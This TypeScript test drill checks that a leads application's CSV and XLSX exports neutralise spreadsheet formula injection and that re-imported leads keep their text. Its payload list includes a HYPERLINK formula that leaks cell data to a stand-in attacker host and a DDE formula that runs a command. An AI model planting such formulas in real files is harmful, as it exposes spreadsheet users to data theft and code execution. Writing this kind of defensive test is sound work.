import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { type DrillResult, tally } from './drill';
import { type Identity, multipartFile } from './http';
import { createLead, json, listAll, type World } from './world';

/**
 * Formula injection (issue 4, bad input): leads whose texts begin with `= + - @`, a tab or a carriage
 * return (and one already beginning with a quote) are exported as CSV and XLSX: no cell may start with a
 * formula character, and XLSX cells are text, not formulas. Both files are imported back: every imported
 * lead's texts equal the original's.
 */

const IMPORT_LIMIT_MS = 45_000;
const COLUMNS = ['companyName', 'title', 'region', 'industry', 'notes'] as const;
const FORMULA_START = /^[=+\-@\t\r]/;

type Texts = Record<(typeof COLUMNS)[number], string | null>;
type StoredLead = Texts & { id: string };

export async function formulaInjectionDrill(world: World): Promise<DrillResult> {
  const t = tally('formula injection');
  const { client, run } = world;
  const admin = world.a.admin.session;
  const token = `FX${run}`;
  const payloads = [
    '=1+1',
    '+SUM(1,2)',
    '-2+3',
    '@SUM(A1)',
    '\t=1+1',
    '\r=2+2',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "'=already quoted",
    '-Negative Industries',
  ];

  const originals: StoredLead[] = [];
  for (const [i, payload] of payloads.entries()) {
    const text = (field: string) => `${payload} ${token} ${field} ${i}`;
    const lead = await createLead(client, admin, {
      companyName: text('company'),
      title: text('title'),
      region: text('region'),
      industry: text('industry'),
      notes: text('notes'),
    });
    originals.push(await readTexts(world, lead.id));
  }
  const query = `q=${token}&columns=${COLUMNS.join(',')}`;

  // CSV: every cell that a spreadsheet would run is quoted; the texts are otherwise as stored.
  const csv = await client.call(admin, { method: 'GET', path: `/api/v1/leads/export?format=csv&${query}` });
  t.check(csv.status === 200, () => `CSV export answered ${csv.status}`);
  const csvRows = (parse(csv.body, { bom: true, relax_column_count: true }) as string[][]).slice(1);
  t.check(
    csvRows.length === originals.length,
    () => `CSV has ${csvRows.length} rows for ${originals.length} leads`,
  );
  checkCells(t, 'CSV', csvRows, originals);

  // XLSX: the same cells, as text (no formula cells).
  const xlsx = await client.call(admin, { method: 'GET', path: `/api/v1/leads/export?format=xlsx&${query}` });
  t.check(xlsx.status === 200, () => `XLSX export answered ${xlsx.status}`);
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(xlsx.body as unknown as Parameters<typeof book.xlsx.load>[0]);
  const xlsxRows: string[][] = [];
  let formulas = 0;
  book.worksheets[0]?.eachRow((row, n) => {
    if (n === 1) return;
    const cells: string[] = [];
    row.eachCell({ includeEmpty: true }, (cell) => {
      if (cell.type === ExcelJS.ValueType.Formula) formulas += 1;
      cells.push(cell.value === null || cell.value === undefined ? '' : String(cell.value));
    });
    xlsxRows.push(cells);
  });
  t.check(formulas === 0, () => `XLSX holds ${formulas} formula cells`);
  t.check(
    xlsxRows.length === originals.length,
    () => `XLSX has ${xlsxRows.length} rows for ${originals.length} leads`,
  );
  checkCells(t, 'XLSX', xlsxRows, originals);

  // Both files imported back: each original's texts come back once more, unchanged.
  const mapping = Object.fromEntries(COLUMNS.map((field, i) => [String(i), field]));
  await importFile(world, t, admin, multipartFile(`formulas-${run}.csv`, csv.body, 'text/csv'), mapping);
  await importFile(
    world,
    t,
    admin,
    multipartFile(
      `formulas-${run}.xlsx`,
      xlsx.body,
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    ),
    mapping,
  );
  const all = await listAll<{ id: string }>(client, admin, `/api/v1/leads?q=${token}`);
  const texts = await Promise.all(all.map((l) => readTexts(world, l.id)));
  for (const original of originals) {
    const key = keyOf(original);
    const copies = texts.filter((l) => l.id !== original.id && keyOf(l) === key).length;
    t.check(
      copies === 2,
      () => `"${JSON.stringify(original.companyName)}": ${copies} of 2 imported copies equal it`,
    );
  }
  t.check(
    texts.length === originals.length * 3,
    () => `${texts.length} leads after two imports of ${originals.length}`,
  );
  t.note(
    `${payloads.length} leads × ${COLUMNS.length} text columns; CSV and XLSX exported and imported back`,
  );
  t.note('A leading tab or carriage return never reaches a lead: the contract trims input text.');
  return t.result();
}

const keyOf = (lead: Texts) => JSON.stringify(COLUMNS.map((c) => lead[c]));

function checkCells(t: ReturnType<typeof tally>, format: string, rows: string[][], originals: StoredLead[]) {
  const expected = new Set(originals.map((o) => JSON.stringify(COLUMNS.map((c) => neutralised(o[c] ?? '')))));
  for (const row of rows) {
    const risky = row.filter((cell) => FORMULA_START.test(cell));
    t.check(risky.length === 0, () => `${format} cells start a formula: ${JSON.stringify(risky)}`);
    t.check(
      expected.has(JSON.stringify(row)),
      () => `${format} row is not a stored lead: ${JSON.stringify(row)}`,
    );
  }
}

/** What an export must write for a stored text: a quote before a formula (or before a quote that looks like one). */
function neutralised(value: string): string {
  return /^'*[=+\-@\t\r]/.test(value) ? `'${value}` : value;
}

async function readTexts(world: World, id: string): Promise<StoredLead> {
  const lead = json<StoredLead>(
    await world.client.call(world.a.admin.session, { method: 'GET', path: `/api/v1/leads/${id}` }),
    200,
    'lead',
  );
  return {
    id: lead.id,
    companyName: lead.companyName,
    title: lead.title,
    region: lead.region,
    industry: lead.industry,
    notes: lead.notes,
  };
}

async function importFile(
  world: World,
  t: ReturnType<typeof tally>,
  who: Identity,
  file: { data: Buffer; contentType: string },
  mapping: Record<string, string>,
): Promise<void> {
  const { client } = world;
  const upload = json<{ id: string }>(
    await client.call(who, { method: 'POST', path: '/api/v1/leads/import', raw: file }),
    201,
    'import upload',
  );
  const started = await client.call(who, {
    method: 'POST',
    path: `/api/v1/leads/import/${upload.id}/start`,
    body: { mapping },
  });
  t.check(
    started.status === 202,
    () => `import start answered ${started.status} ${started.text.slice(0, 200)}`,
  );
  const deadline = Date.now() + IMPORT_LIMIT_MS;
  let state = { status: 'mapped', imported: 0, skipped: 0 };
  while (Date.now() < deadline && !['done', 'failed', 'cancelled'].includes(state.status)) {
    await new Promise((resolve) => setTimeout(resolve, 250));
    state = json(
      await client.call(who, { method: 'GET', path: `/api/v1/leads/import/${upload.id}` }),
      200,
      'import',
    );
  }
  t.check(
    state.status === 'done' && state.skipped === 0,
    () => `import ${file.contentType.split(';')[0]}: ${JSON.stringify(state)}`,
  );
}
